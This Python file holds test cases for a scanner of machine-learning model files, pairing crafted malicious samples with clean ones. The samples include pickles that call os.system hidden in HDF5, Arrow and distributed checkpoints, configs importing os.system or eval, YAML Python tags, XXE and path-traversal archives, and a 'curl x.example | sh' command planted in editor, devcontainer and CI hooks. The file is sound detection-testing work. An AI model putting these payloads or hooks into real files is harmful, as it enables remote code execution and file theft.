"""Attacks by settings, archives, graphs and plain text that were thought up after the scanner."""

import base64
import io
import json
import struct
import zipfile

import h5py
import numpy as np

from tests.formats.tensorflow_files import field
from tests.scanner.archive_assembly import tarred, torch_zip
from tests.scanner.archive_assembly import zipped as archive
from tests.scanner.form_cases import (
    CLEAN,
    MALFORMED,
    MALICIOUS,
    SUSPICIOUS,
    Case,
    entry,
    numbered,
    safetensors,
    seven_zip,
)
from tests.scanner.graph_cases import (
    DENSE,
    graph,
    hdf5,
    keras,
    layer,
    model,
    node,
    onnx,
    saved_model,
    text,
)
from tests.scanner.pickle_assembly import SYSTEM, program
from tests.scanner.pickle_assembly import text as short

_BASE64 = base64.b64encode(SYSTEM).decode()
_CODE = {"class_name": "__lambda__", "config": {"code": "4wE="}}
_OS = {"module": "os", "class_name": "function", "config": "system", "registered_name": "x"}
_TEXT_GRAPH = b'node {\n  name: "x"\n  op: "%s"\n  attr { key: "T" value { type: DT_FLOAT } }\n}\n'


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _dense() -> bytes:
    """So many attributes that HDF5 keeps them outside the object's header."""
    held = io.BytesIO()
    with h5py.File(held, "w", libver="latest") as file:
        for number in range(30):
            file.attrs[f"a{number}"] = "x"
        file.attrs["model_config"] = json.dumps(model(layer("Lambda", {"function": _CODE})))
    return held.getvalue()


def _behind_user_block() -> bytes:
    held = io.BytesIO()
    with h5py.File(held, "w", userblock_size=512) as file:
        file.attrs["model_config"] = json.dumps(model(layer("Lambda", {"function": _CODE})))
    return held.getvalue()


def _link(target: bytes) -> bytes:
    held, link = io.BytesIO(), zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(held, "w") as file:
        file.writestr(link, target)
    return held.getvalue()


def _lite(operator: str) -> bytes:
    names = b"(" + short("operators") + b"((" + short(operator) + short("") + b"K\x01ttt"
    return archive({"m/data.pkl": b"\x80\x02N.", "m/bytecode.pkl": program(names)})


def _pytables(marked: str) -> bytes:
    """Far more than the first bytes, then a pickle as PyTables keeps objects."""
    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        file.create_dataset("a", data=np.zeros(50_000))
        file.create_dataset("x", data=np.frombuffer(bytes(64) + SYSTEM, np.uint8))
        file["x"].attrs[marked] = np.bytes_(b"object")
    return held.getvalue()


def _table(magic: bytes, schema: bytes) -> bytes:
    start = magic.ljust(8, b"\0") if magic == b"ARROW1" else magic
    return start + bytes(100) + schema + struct.pack("<I", len(schema)) + magic


_TYPE = b"ARROW:extension:name\0arrow.py_extension_type\0\0"
_RUN = "curl x.example | sh"

CASES = [
    Case(
        "HELD-kernels",
        "kernels, modules and codecs that loaders take from elsewhere",
        SUSPICIOUS,
        {
            "config.json": _json({"_attn_implementation": "someone/attention"}),
            "a/config.json": _json({"text_config": {"attn_implementation": "paged|x/y:run"}}),
            "adapter_config.json": _json({"auto_mapping": {"parent_library": "evil"}}),
            ".zarray": _json({"filters": [{"id": "pickle", "protocol": 5}]}),
            "zarr.json": _json({"codecs": [{"name": "numcodecs.pickle"}]}),
        },
    ),
    Case(
        "HELD-usual-kernels",
        "what transformers, peft and Zarr write",
        CLEAN,
        {
            "config.json": _json({"_attn_implementation": "sdpa"}),
            "a/config.json": _json({"_attn_implementation": "kernels-community/flash-attn3"}),
            "adapter_config.json": _json(
                {"auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert"}}
            ),
            ".zarray": _json({"filters": [{"id": "delta"}], "compressor": {"id": "blosc"}}),
            "names.json": _json({"id": "pickle", "name": "pickle"}),
        },
    ),
    Case(
        "HELD-pytables",
        "a pickle that PyTables or pandas would load from an HDF5 file",
        MALICIOUS,
        {
            "a.h5": _pytables("PSEUDOATOM"),
            "b.h5": _pytables("PYTABLES_FORMAT_VERSION"),
            "c.h5": _pytables("pandas_type"),
        },
    ),
    Case(
        "HELD-column",
        "a type of column that is described by a pickle (CVE-2023-47248)",
        SUSPICIOUS,
        {
            "a.arrow": _table(b"ARROW1", _TYPE),
            **{
                f"{shift}.parquet": _table(b"PAR1", base64.b64encode(bytes(shift) + _TYPE))
                for shift in range(3)
            },
        },
    ),
    Case(
        "HELD-columns",
        "tables without it",
        CLEAN,
        {"a.arrow": _table(b"ARROW1", b"schema"), "a.parquet": _table(b"PAR1", b"schema")},
    ),
    Case(
        "HELD-tools",
        "commands that editors, hosts of code and other tools run",
        SUSPICIOUS,
        {
            "tasks.json": b'{\n  // comment\n  "command": "%s"}' % _RUN.encode(),
            "devcontainer.json": _json({"postCreateCommand": _RUN}),
            ".pre-commit-config.yaml": f"repos:\n- hooks:\n  - entry: {_RUN}\n".encode(),
            "any.yml": f"on: push\njobs:\n  a:\n    steps:\n    - run: {_RUN}\n".encode(),
            "MLproject": f'entry_points:\n  main:\n    command: "{_RUN}"\n'.encode(),
        },
    ),
    Case(
        "HELD-told",
        "the same as words, in data and cards",
        CLEAN,
        {
            "data.json": _json([{"instruction": "install it", "output": f"{_RUN}"}]),
            "README.md": f"Install it: `{_RUN}`\n".encode(),
            "any.yml": f"on: push\ntext: {_RUN}\n".encode(),
        },
    ),
    Case(
        "HELD-row",
        "archives one after the other, as distributed checkpoints have them, one of them an attack",
        MALICIOUS,
        {
            "__0_0.distcp": torch_zip() + torch_zip(SYSTEM),
            "__1_0.distcp": torch_zip(SYSTEM) + torch_zip(),
        },
    ),
    Case(
        "HELD-row-harmless",
        "harmless archives one after the other",
        CLEAN,
        {"__0_0.distcp": torch_zip() * 3},
    ),
    Case(
        "HELD-row-elsewhere",
        "the same under the name of one archive, or with bytes between, of which loaders take one",
        MALFORMED,
        {
            "model.pt": torch_zip() * 2,
            "__0_0.distcp": torch_zip() + bytes(8) + torch_zip(),
        },
    ),
    Case(
        "HELD-imported",
        "settings whose values are imported by their dotted names",
        MALICIOUS,
        {
            "1_Dense/config.json": _json({"in_features": 2, "activation_function": "os.system"}),
            "ldm.json": _json({"target": "subprocess.run", "params": {}}),
            "cli.yaml": b"class_path: os.system\ninit_args: {}\n",
            "hparams.json": _json({"_target_": "os.system", "_args_": ["true"]}),
            "hydra.yaml": b"trainer:\n  _target_: builtins.eval\n",
        },
    ),
    Case(
        "HELD-remote",
        "code of the repo asked for, in other spellings",
        SUSPICIOUS,
        {
            "a/config.json": _json({"trust_remote_code": "true"}),
            "b/config.json": _json({"trust_remote_code": 1}),
            "router_config.json": _json({"types": {"a": "evil.module.Net"}, "structure": {}}),
            "config": _json({"auto_map": {"AutoModel": "evil.Net"}}),
            "tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": [None, "evil.Tok"]}}),
        },
    ),
    Case(
        "HELD-settings",
        "ordinary values under the same keys",
        CLEAN,
        {
            "1_Dense/config.json": _json(
                {"activation_function": "torch.nn.modules.activation.Tanh"}
            ),
            "ldm.yaml": b"model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n",
            "config.json": _json({"trust_remote_code": False, "target": "text", "func": "gelu"}),
            "router_config.json": _json({"types": {"a": "sentence_transformers.models.Dense"}}),
        },
    ),
    Case(
        "HELD-tags",
        "YAML tags of Python, spelled otherwise",
        MALICIOUS,
        {
            "a.yaml": b"a: !!python%2fobject/apply:os.system [x]\n",
            "b.yaml": b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n",
            "c.yaml": b"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n",
            "README.md": b"---\nx: !!python/object/apply:os.system [x]\n---\n",
        },
    ),
    Case(
        "HELD-keras",
        "functions of modules in losses, initialisers and activations; layers that read files",
        MALICIOUS,
        {
            "a.keras": keras({**model(DENSE), "compile_config": {"loss": _OS}}),
            "b.keras": keras(model(layer("Dense", {"kernel_initializer": _OS}))),
            "c.keras": keras(model(layer("StringLookup", {"vocabulary": "/etc/passwd"}))),
            "d.h5": hdf5(training_config=json.dumps({"loss": _OS})),
            "e.h5": _dense(),
            "f.h5": _behind_user_block(),
        },
    ),
    Case(
        "HELD-text-graphs",
        "TensorFlow's graphs as text, their names split and escaped",
        MALICIOUS,
        {
            "saved_model.pbtxt": b"meta_graphs { graph_def { " + _TEXT_GRAPH % b"PyFunc" + b" } }",
            "graph.txt": _TEXT_GRAPH % b"ReadFile",
            "split.pbtxt": _TEXT_GRAPH.replace(b'"%s"', b"'Py' \"\\106unc\""),
        },
    ),
    Case(
        "HELD-caffe",
        "a layer in Python",
        SUSPICIOUS,
        {
            "net.prototxt": b'layer { type: "Python" python_param { module: "os" layer: "L" } }',
        },
    ),
    Case("HELD-text-graph", "one that computes", CLEAN, {"g.pbtxt": _TEXT_GRAPH % b"MatMul"}),
    Case(
        "HELD-graphs",
        "operations that reach out, found in TensorFlow 2.21's own list",
        MALICIOUS,
        {
            "a.pb": saved_model(graph("Const", "RecordInput")),
            "b.pb": saved_model(graph("Const", "LoadAndRemapMatrix")),
            "c.pb": saved_model(graph("Const", "XlaCustomCallV2")),
            "d.pb": saved_model(graph("Const", "WriteRawProtoSummary")),
            "e.pb": saved_model(graph("Const")) + saved_model(graph("PyFunc")),
        },
    ),
    Case(
        "HELD-computing",
        "operations that compute, which came out as unknown",
        CLEAN,
        {"a.pb": saved_model(graph("DynamicPartition", "DynamicStitch", "Roll", "LowerBound"))},
    ),
    Case(
        "HELD-carried",
        "pickles as text in headers",
        SUSPICIOUS,
        {
            "a.safetensors": safetensors({"t": entry(), "__metadata__": {"x": _BASE64}}, bytes(16)),
            "a.onnx": onnx(node("Add"), field(14, text(1, "k") + text(2, _BASE64))),
        },
    ),
    Case(
        "HELD-links",
        "symbolic links, and names with steps of Windows, in zip archives",
        MALICIOUS,
        {
            "a.zip": _link(b"/etc/passwd"),
            "b.zip": _link(b"../../secret"),
            "c.zip": archive({"..\\..\\x.txt": b"x"}),
        },
    ),
    Case(
        "HELD-lite",
        "operators in the bytecode of torch's lite interpreter",
        SUSPICIOUS,
        numbered(".ptl", *map(_lite, ("aten::from_file", "aten::save", "prim::PythonOp"))),
    ),
    Case("HELD-lite-plain", "one that computes", CLEAN, {"m.ptl": _lite("aten::add")}),
    Case(
        "HELD-entities",
        "XML that reads files or grows",
        SUSPICIOUS,
        {
            "a.xml": b'<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///x">]><n>&x;</n>',
            "b.pmml": b'<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://x.example/a.dtd"><PMML/>',
            "c.xml": b'<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><l>&b;</l>',
        },
    ),
    Case(
        "HELD-xml",
        "documents without",
        CLEAN,
        {"net.xml": b'<?xml version="1.0"?><net name="x"/>', "a.html": b"<!DOCTYPE html><html/>"},
    ),
    Case(
        "HELD-plain-text",
        "text under the names of binary checkpoints",
        SUSPICIOUS,
        {"a.pt": b"print('hi')\n", "b.safetensors": b"import os\n", "c.ckpt": b"<html></html>"},
    ),
    Case(
        "HELD-nests",
        "checkpoints in archives of several kinds",
        MALICIOUS,
        {
            "a.tar": tarred({"a.zip": archive({"m.pt": torch_zip(SYSTEM)})}),
            "b.zip": archive({"x.tar": tarred({"m.pkl": SYSTEM})}),
            "c.7z": seven_zip(SYSTEM, SYSTEM, b"\x01\x01\0"),
        },
    ),
]
